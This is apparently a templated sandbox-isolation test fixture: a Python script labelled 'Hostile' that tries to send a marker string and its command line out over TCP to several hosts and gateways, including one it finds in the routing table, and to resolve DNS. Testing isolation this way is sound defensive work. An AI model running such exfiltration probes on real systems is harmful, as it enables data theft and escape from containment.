"""Hostile: try to send data out, by every route a container or namespace might leave open."""

import socket

import sys

STEP = " ".join(getattr(sys, "orig_argv", sys.argv))

attempts = {}
targets = [("1.1.1.1", 53), ("127.0.0.1", @@LISTENER_PORT@@), ("172.17.0.1", @@LISTENER_PORT@@), ("10.0.2.2", 80)]
try:
    for line in open("/proc/net/route").read().splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            gw = socket.inet_ntoa(bytes.fromhex(fields[2])[::-1])
            targets.append((gw, @@LISTENER_PORT@@))
except OSError:
    pass
for host, port in targets:
    try:
        with socket.create_connection((host, port), timeout=1) as s:
            s.sendall(b"EXFILTRATED " + STEP.encode())
        attempts[f"{host}:{port}"] = "SENT"
    except OSError as exc:
        attempts[f"{host}:{port}"] = type(exc).__name__
try:
    socket.getaddrinfo("example.com", 80)
    attempts["dns"] = "RESOLVED"
except OSError as exc:
    attempts["dns"] = type(exc).__name__
print("EXFIL attempts:", attempts, flush=True)
